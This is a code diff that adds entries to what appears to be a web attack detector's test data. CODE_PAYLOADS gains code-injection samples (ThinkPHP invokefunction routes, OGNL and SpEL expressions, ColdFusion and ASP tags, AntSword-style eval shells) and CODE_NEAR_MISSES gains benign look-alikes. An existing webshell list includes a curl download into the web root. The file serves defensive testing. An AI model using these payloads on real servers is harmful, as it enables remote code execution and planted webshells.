@@ -262,7 +262,14 @@ CODE_PAYLOADS = {
             # names PHP shares with libc or other languages, called bare with a PHP variable or a single-quoted
             # path (CRS 933160's list); a PHP statement printing a command's output
             "mkdir($d)", "rtrim($x)", "opendir('/etc')", "file('../../config.php')", "print `ls`;",
-            "strip_tags($_GET['a'])"],
+            "strip_tags($_GET['a'])",
+            # a quote escaped once more as a call's argument (afrog's IceWarp probe)
+            "system(\\'ipconfig\\')\\", "passthru(\\\"id\\\")",
+            # a statement closed by PHP's closing tag (vulhub's ThinkPHP lang RCE, seacms in afrog, PHPIDS)
+            "phpinfo()?> shell.php", "exit;?>", "x=1; ?>",
+            # ThinkPHP's classes named in a route, a method of theirs called (afrog, xray)
+            "/index/\\think\\app/invokefunction", "index/\\think\\Container/invokefunction",
+            "k3v9q2zt/\\think\\Request/input", "x/think\\\\Error/appError", "\\think\\view\\driver\\php/display"],
     "node": ["x = root.process; x.mainModule.require('fs')",
              "console.info(1)", "console[\"log\"](1)", "while(-1);", "while(!!\"\");",
              "while(42)", "while(Object)", "while('a')", "module.exports=x",
@@ -274,7 +281,19 @@ CODE_PAYLOADS = {
                 "subprocess.check_output('id', shell=True)",
                 "new java.lang.ProcessBuilder(\"id\").start()", "Class.forName('java.lang.Runtime')",
                 "Runtime.getRuntime().exec(\"id\")", "T(java.lang.System).getenv()",
-                "\"\".getClass().forName(\"java.util.Date\")", "exec.Command(\"id\").Output()"],
+                "\"\".getClass().forName(\"java.util.Date\")", "exec.Command(\"id\").Output()",
+                # Groovy's String.execute() (OFBiz, Jenkins), Lua's / Python's os.execute on a literal (APISIX), a Java
+                # class made by its full name in a script (afrog, xray, vulhub)
+                "throw new Exception('id'.execute().text);", "\"touch /tmp/x\".execute()", "x.execute().text",
+                "function(vars) os.execute('curl x'); return true end", "os.system(\"id\")",
+                "var a=new org.springframework.expression.spel.standard.SpelExpressionParser();",
+                "new java.util.Scanner(x).next()", "new javax.script.ScriptEngineManager()",
+                # ASP / ASP.NET as AntSword sends it: eval of a request value, JScript.NET's eval(..., "unsafe"), COM
+                # objects that run commands or touch files, .NET's process and file classes
+                "eval request(\"ant\")", "Execute(Request.Form(\"x\"))",
+                "eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(x)),\"unsafe\");",
+                "Set o = CreateObject(\"WScript.Shell\")", "System.Diagnostics.Process.Start(\"cmd\")",
+                "System.IO.File.WriteAllText(p, t)"],
     "perl": ["@{[ ]}", "@@{[system whoami]}", "x @ {[ `id` ]}"],
     "ssi": ['<!--#exec cmd="/bin/cat /etc/passwd"-->', "<!--#include virtual=\"/etc/passwd\"-->",
             '<!--#echo var="DOCUMENT_ROOT"-->', '<esi:include src="http://x.example/a"/>'],
@@ -307,7 +326,29 @@ CODE_PAYLOADS = {
                  "!{7*7}",
                  # OGNL's %{...} arithmetic, a product of long literals printed (ZAP, w3af), Go's print
                  "%{7193*4021}", "print 28763*4196403;", "Response.Write(28763*4196403)",
-                 '{{print "2614" "1450"}}'],
+                 '{{print "2614" "1450"}}',
+                 # a product of long literals thrown or printed by printf (spider-flow, ECShop in afrog / xray)
+                 "}throw(436206*444125);{", "printf(151122*159041);",
+                 # EL with a letter escaped between `$` and `{` (Nexus's validator message bypass)
+                 "$\\A{233*233*233}", "nxadmin$\\B{233*233}", "$\\c{''.getClass()}",
+                 # server page tags and directives: ColdFusion, ASP.NET / JSP, HFS macros, DedeCMS's runphp
+                 "<cfexecute name='id' outputFile='/tmp/x'></cfexecute>", "<cfscript>writeOutput(1)</cfscript>",
+                 '<%@ Register Tagprefix="x" Namespace="System.Web.UI" %>', '<%@ page import="java.io.*" %>',
+                 '<jsp:include page="evil.jsp" />', "<jsp:scriptlet>x</jsp:scriptlet>",
+                 "{.exec|ipconfig|timeout=5|out=abc.}", "{dede:field name='source' runphp='yes'}echo 1;{/dede:field}",
+                 # OGNL reached from a broken-out string, OGNL's context variables (Confluence, Struts)
+                 "\\u0027+{752966+760885}+\\u0027", "'+{233*233}+'",
+                 "aaa\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027)",
+                 "#request\\u005b\\u0027x\\u0027\\u005d", "findValue(#parameters.x,{})",
+                 "#_memberAccess['allowStaticMethodAccess']", "#context[#parameters.obj[0]].getWriter()",
+                 # SpEL's type reference to any package (wy876/POC), FreeMarker's assign of a class, Twig's include(),
+                 # XWiki's script macros (websitesVulnerableToSSTI, wy876/POC)
+                 "__${T(groovy.lang.GroovyClassLoader).newInstance()}__::.x", "${T(org.x.StreamUtils).copy(a)}",
+                 "<#assign proc=Runtime> ${ proc }", "{{include(\"index\")}}", "{{ template_from_string('x') }}",
+                 "}}}{{async async=false}}{{groovy}}println(1){{/groovy}}{{/async}}",
+                 "{{python}}print(1){{/python}}",
+                 # VBScript's eval of a value inside ASP's <% %> (AntSword's xxxxdog shell)
+                 "<%Function xxxx(str) eval str End Function%>", "<% Execute s %>", "<%eval request(\"ant\")%>"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -340,6 +381,19 @@ CODE_NEAR_MISSES = [
     "a@{b}[c]",
     "Hello %{name}, you have %{count} items", "print 2*3", "{{ print }}", "Buy 100*200 boxes and print",
     "{{ locals }}", "Hello!{name}", "{{ request.meta.title }}", '{{ constant("x") }}', "wow!{7} items",
+    # near the shapes from afrog / xray / vulhub / blazehttp: a method named execute, os.path, a class named in prose,
+    # a literal printed, escaped text, tags and hashtags
+    "query.execute()", "stmt.execute().then(done)", "the 'execute' button", "os.path.join('a', 'b')",
+    "the os.system call", "new Java features", "new java.util.Date", "the java.util.Scanner class", "print (42 copies)",
+    "throw(err)", "printf(100*2)", "C:\\Users\\Bob{x}", "costs $\\5{net}", "<cfoutput>#name#</cfoutput>",
+    "<% if x %>", "{.name.}", "the runphp option", "{dede:field name='title'/}", "#request for comments",
+    "see #parameters. Then", "#session (2)", "I'd say '+{x}+'", "\\u0027hello\\u0027", "a '+' b {1+1}",
+    "T(org) = 5", "<#assign x=RuntimeName>", "{{ include }}", "{{ script }}", "{{groovy}} is a macro",
+    "{{ python_version }}{{/python}}",
+    "eval the request (see below)", "an unsafe eval(x, 'safe')", "CreateObject(\"Excel.Application\")",
+    "I think/know", "C:\\think\\notes/todo.txt", "think\\app",
+    "<jsp-include>", "the jsp:include action", "What (really)?>", "<?xml version=\"1.0\"?>", "Why?>",
+    "System.IO is a namespace", "the System.Diagnostics docs", "<%= evaluation %>", "execute the request",
 ]
 
 
